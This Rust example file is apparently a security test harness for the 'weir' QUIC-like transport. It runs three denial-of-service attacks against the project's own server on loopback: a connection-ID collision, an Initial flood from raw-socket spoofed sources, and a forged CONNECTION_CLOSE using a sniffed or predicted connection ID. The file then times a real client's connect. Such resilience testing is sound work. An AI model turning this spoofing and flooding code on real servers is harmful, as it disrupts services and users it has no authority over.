//! The three cheap denial-of-service attacks of issue 10, as a hostile stranger on the same
//! network would run them against a `weir perf server`, and a real client timed during them.
//!
//! ```sh
//! cargo run --release -p weir-cli --example attack -- collide --server 127.0.0.1:4433
//! cargo run --release -p weir-cli --example attack -- flood --server 127.0.0.1:4433 --count 10000
//! cargo run --release -p weir-cli --example attack -- flood --server 127.0.0.1:4433 --count 10000 --sources 10000
//! cargo run --release -p weir-cli --example attack -- close --server 127.0.0.1:4433 --client 127.0.0.1:40000
//! ```
//!
//! `collide` sends one Initial with the destination connection ID a client seeded with `--seed`
//! would pick first; `flood` sends Initials of fresh client connections, from one port or (as
//! root, with raw sockets) from `--sources` spoofed loopback addresses, then times a real client's
//! connect; `close` forges a CONNECTION_CLOSE from the client's address to the connection ID a
//! server seeded with `--seed` gives its first connection. Spoofing needs root (raw sockets).
#![forbid(unsafe_code)]

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::time::{Duration, Instant};

use bytes::{Bytes, BytesMut};
use clap::{Parser, Subcommand};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use weir_core::config::{EndpointConfig, RetryPolicy, ServerConfig, TransportConfig};
use weir_core::crypto::{ClientTls, Fingerprint, Identity, TlsConfig};
use weir_core::endpoint::Endpoint as CoreEndpoint;
use weir_core::protect::integrity::TAG_LEN;
use weir_core::protect::{Crc32cKey, IdentityHeaderKey};
use weir_core::wire::frame::ConnectionClose;
use weir_core::wire::{
    ConnectionId, Frame, Header, PacketBuilder, PacketNumber, PartialDecode, VarInt,
};

#[derive(Debug, Parser)]
struct Args {
    #[command(subcommand)]
    attack: Attack,
    /// The server's pin (`weir perf server` prints it): the Initials are TLS ClientHellos and
    /// the timed client pins it. Without it both speak the integrity-only protection, for a
    /// server run with `--insecure`.
    #[arg(long, global = true)]
    pin: Option<Fingerprint>,
}

/// The pin of `--pin`, for the helpers below (set once, at start).
static PIN: std::sync::OnceLock<Option<Fingerprint>> = std::sync::OnceLock::new();

fn pin() -> Option<Fingerprint> {
    PIN.get().copied().flatten()
}

#[derive(Debug, Subcommand)]
enum Attack {
    /// One Initial carrying the destination ID a client seeded with `--seed` picks first.
    Collide {
        #[arg(long)]
        server: SocketAddr,
        #[arg(long, default_value_t = 0)]
        seed: u64,
    },
    /// `--count` Initials of distinct connections, then a real client's connect time.
    Flood {
        #[arg(long)]
        server: SocketAddr,
        #[arg(long, default_value_t = 10_000)]
        count: usize,
        /// Distinct spoofed source addresses (127.2.x.y; raw sockets, root); 1 sends from one
        /// ordinary socket.
        #[arg(long, default_value_t = 1)]
        sources: usize,
        /// Pace the flood at this many Initials per second (0: as fast as possible).
        #[arg(long, default_value_t = 0)]
        rate: u64,
        /// Keep the flood going this long (re-sending the same Initials), timing a real client
        /// connect every second.
        #[arg(long, default_value = "0", value_parser = parse_secs)]
        hold: Duration,
        /// Where a one-source flood comes from: another host than the real client's (which
        /// connects from 127.0.0.1), as an attacker on the network would be.
        #[arg(long, default_value = "127.0.0.2:0")]
        from: SocketAddr,
    },
    /// A CONNECTION_CLOSE from `--client`'s address to the first connection of a server seeded
    /// with `--seed` (raw socket, root).
    Close {
        #[arg(long)]
        server: SocketAddr,
        #[arg(long)]
        client: SocketAddr,
        #[arg(long, default_value_t = 0)]
        seed: u64,
        /// The server's connection ID (hex), if known.
        #[arg(long)]
        cid: Option<String>,
        /// Learn the server's connection ID from the client's packets, as anyone on the path
        /// can while packets are not encrypted (raw socket); otherwise predict it from `--seed`.
        #[arg(long)]
        sniff: bool,
    },
}

fn parse_secs(s: &str) -> Result<Duration, String> {
    s.trim_end_matches('s')
        .parse::<f64>()
        .map(Duration::from_secs_f64)
        .map_err(|e| e.to_string())
}

fn endpoint_config(seed: u64) -> EndpointConfig {
    match pin() {
        Some(pin) => EndpointConfig::tls_fixed(
            seed,
            TlsConfig::client(ClientTls::pinned(vec![pin]).expect("client tls")),
        ),
        None => EndpointConfig::insecure_fixed(seed),
    }
}

/// The first Initial datagrams of `n` connections of a client endpoint seeded with `seed`.
fn initials(seed: u64, server: SocketAddr, n: usize) -> Vec<Vec<u8>> {
    #[allow(clippy::disallowed_methods)]
    let now = Instant::now();
    let mut client = CoreEndpoint::new(now, endpoint_config(seed), None).expect("client endpoint");
    let mut out = Vec::with_capacity(n);
    let mut buf = Vec::new();
    for _ in 0..n {
        client.connect(now, server).expect("connect");
        while let Some(t) = client.poll_transmit(now, 1, &mut buf) {
            out.push(buf[buf.len() - t.size..].to_vec());
            buf.clear();
        }
    }
    out
}

/// The connection ID a server seeded with `seed` gives its first connection: ask a twin.
fn predicted_server_cid(seed: u64, server: SocketAddr) -> ConnectionId {
    #[allow(clippy::disallowed_methods)]
    let now = Instant::now();
    // The twin's identity does not matter: connection IDs come from the seed alone.
    let twin_config = match pin() {
        Some(_) => {
            let identity = Identity::self_signed(["twin"]).expect("identity");
            EndpointConfig::tls_fixed(seed, TlsConfig::server(&identity).expect("server tls"))
        }
        None => EndpointConfig::insecure_fixed(seed),
    };
    let mut twin = CoreEndpoint::new(
        now,
        twin_config,
        Some(ServerConfig {
            transport: TransportConfig::default(),
            retry: RetryPolicy::Never,
            ..ServerConfig::default()
        }),
    )
    .expect("twin server");
    let initial = initials(1, server, 1).remove(0);
    twin.handle_datagram(
        now,
        "10.0.0.1:1".parse().expect("addr"),
        None,
        BytesMut::from(&initial[..]),
    );
    let mut buf = Vec::new();
    let _ = twin.poll_transmit(now, 1, &mut buf).expect("twin answers");
    let (partial, _) = PartialDecode::new(BytesMut::from(&buf[..]), 8).expect("decodes");
    *partial.scid().expect("long header")
}

/// A raw IPv4 socket that writes its own IP and UDP headers (root).
struct Spoofer(Socket);

impl Spoofer {
    fn new() -> std::io::Result<Self> {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
        Ok(Self(socket))
    }

    fn send(&self, from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> std::io::Result<()> {
        let total = 20 + 8 + payload.len();
        let mut p = Vec::with_capacity(total);
        p.extend_from_slice(&[
            0x45,
            0,
            (total >> 8) as u8,
            total as u8,
            0,
            0,
            0x40,
            0,
            64,
            17,
            0,
            0,
        ]);
        p.extend_from_slice(&from.ip().octets());
        p.extend_from_slice(&to.ip().octets());
        let udp_len = 8 + payload.len();
        p.extend_from_slice(&from.port().to_be_bytes());
        p.extend_from_slice(&to.port().to_be_bytes());
        p.extend_from_slice(&(udp_len as u16).to_be_bytes());
        p.extend_from_slice(&[0, 0]);
        p.extend_from_slice(payload);
        self.0.send_to(
            &p,
            &SockAddr::from(SocketAddr::V4(SocketAddrV4::new(*to.ip(), 0))),
        )?;
        Ok(())
    }
}

/// The destination connection ID of the client's short-header packets to the server, read off
/// the wire (a raw socket sees every UDP datagram the host receives, loopback included).
fn sniffed_server_cid(server: SocketAddr, client: SocketAddr) -> std::io::Result<ConnectionId> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))?;
    socket.set_read_timeout(Some(Duration::from_secs(10)))?;
    let mut buf = vec![0u8; 65_536];
    loop {
        let n = std::io::Read::read(&mut &socket, &mut buf)?;
        let packet = &buf[..n];
        let ihl = usize::from(packet.first().copied().unwrap_or(0) & 0x0f) * 4;
        let Some(udp) = packet.get(ihl..) else {
            continue;
        };
        if udp.len() < 8 + 9 {
            continue;
        }
        let src_port = u16::from_be_bytes([udp[0], udp[1]]);
        let dst_port = u16::from_be_bytes([udp[2], udp[3]]);
        let payload = &udp[8..];
        if src_port == client.port() && dst_port == server.port() && payload[0] & 0xc0 == 0x40 {
            return ConnectionId::new(&payload[1..9])
                .map_err(|e| std::io::Error::other(format!("{e}")));
        }
    }
}

fn v4(addr: SocketAddr) -> SocketAddrV4 {
    match addr {
        SocketAddr::V4(a) => a,
        SocketAddr::V6(_) => panic!("spoofing is IPv4 only"),
    }
}

fn spoofed_source(i: usize) -> SocketAddrV4 {
    SocketAddrV4::new(
        Ipv4Addr::new(127, 2, (i >> 8) as u8, i as u8),
        20_000 + (i % 40_000) as u16,
    )
}

/// Connects a real weir-tokio client; the time it took, or why it failed.
fn probe(runtime: &tokio::runtime::Runtime, server: SocketAddr) -> Result<Duration, String> {
    runtime.block_on(async {
        let config = match pin() {
            Some(pin) => {
                weir_tokio::Config::client(ClientTls::pinned(vec![pin]).map_err(|e| e.to_string())?)
            }
            None => weir_tokio::Config::insecure_client(),
        };
        let endpoint = weir_tokio::Endpoint::bind("127.0.0.1:0".parse().expect("addr"), config)
            .await
            .map_err(|e| e.to_string())?;
        let started = Instant::now();
        let result = tokio::time::timeout(Duration::from_secs(10), endpoint.connect(server)).await;
        let took = started.elapsed();
        match result {
            Ok(Ok(conn)) => {
                conn.close(VarInt::ZERO, b"probe done");
                endpoint
                    .shutdown(VarInt::ZERO, b"", Duration::from_millis(200))
                    .await;
                Ok(took)
            }
            Ok(Err(e)) => Err(format!("{e} after {took:?}")),
            Err(_) => Err("no connection within 10 s".to_owned()),
        }
    })
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args = Args::parse();
    let _ = PIN.set(args.pin);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    match args.attack {
        Attack::Collide { server, seed } => {
            let initial = initials(seed, server, 1).remove(0);
            let socket = UdpSocket::bind("127.0.0.1:0")?;
            socket.send_to(&initial, server)?;
            println!(
                "sent one {}-byte Initial from {} with the first destination ID of seed {seed}",
                initial.len(),
                socket.local_addr()?
            );
        }
        Attack::Flood {
            server,
            count,
            sources,
            rate,
            hold,
            from,
        } => {
            let datagrams = initials(0x5eed_f100d, server, count);
            let socket = UdpSocket::bind(from)?;
            let spoofer = if sources > 1 {
                Some(Spoofer::new()?)
            } else {
                None
            };
            let started = Instant::now();
            let mut sent = 0usize;
            let mut bytes = 0usize;
            let mut next_probe = started + Duration::from_secs(1);
            loop {
                for (i, d) in datagrams.iter().enumerate() {
                    match &spoofer {
                        Some(s) => s.send(spoofed_source(i % sources), v4(server), d)?,
                        None => {
                            socket.send_to(d, server)?;
                        }
                    }
                    sent += 1;
                    bytes += d.len();
                    if rate > 0 {
                        let due = started + Duration::from_secs_f64(sent as f64 / rate as f64);
                        if let Some(wait) = due.checked_duration_since(Instant::now()) {
                            std::thread::sleep(wait);
                        }
                    }
                    if hold > Duration::ZERO && Instant::now() >= next_probe {
                        let outcome = probe(&runtime, server);
                        println!(
                            "{:>6.1} s: {sent} Initials sent; real client: {outcome:?}",
                            started.elapsed().as_secs_f64()
                        );
                        next_probe = Instant::now() + Duration::from_secs(1);
                    }
                }
                if started.elapsed() >= hold {
                    break;
                }
            }
            println!(
                "sent {sent} Initials ({bytes} B) from {} source(s) in {:?}",
                sources.max(1),
                started.elapsed()
            );
            println!(
                "real client right after the flood: {:?}",
                probe(&runtime, server)
            );
        }
        Attack::Close {
            server,
            client,
            seed,
            cid,
            sniff,
        } => {
            let dcid = match cid {
                None if sniff => sniffed_server_cid(server, client)?,
                Some(hex) => {
                    let bytes: Vec<u8> = (0..hex.len())
                        .step_by(2)
                        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16))
                        .collect::<Result<_, _>>()?;
                    ConnectionId::new(&bytes).map_err(|e| format!("{e:?}"))?
                }
                None => predicted_server_cid(seed, server),
            };
            let close = Frame::ConnectionClose(ConnectionClose::Application {
                error_code: VarInt::ZERO,
                reason: Bytes::from_static(b"forged"),
            });
            let pn = 1u64 << 24;
            let header = Header::Short {
                spin: false,
                key_phase: false,
                dcid,
                number: PacketNumber::new(pn, None),
            };
            let mut datagram = Vec::new();
            let mut builder = PacketBuilder::new(&mut datagram, &header, pn, 1200, TAG_LEN)
                .map_err(|e| format!("{e:?}"))?;
            builder.write_frame(&close);
            builder
                .finish(&Crc32cKey, &IdentityHeaderKey)
                .map_err(|e| format!("{e:?}"))?;
            Spoofer::new()?.send(v4(client), v4(server), &datagram)?;
            println!("forged CONNECTION_CLOSE to {dcid:?} from {client}");
        }
    }
    Ok(())
}
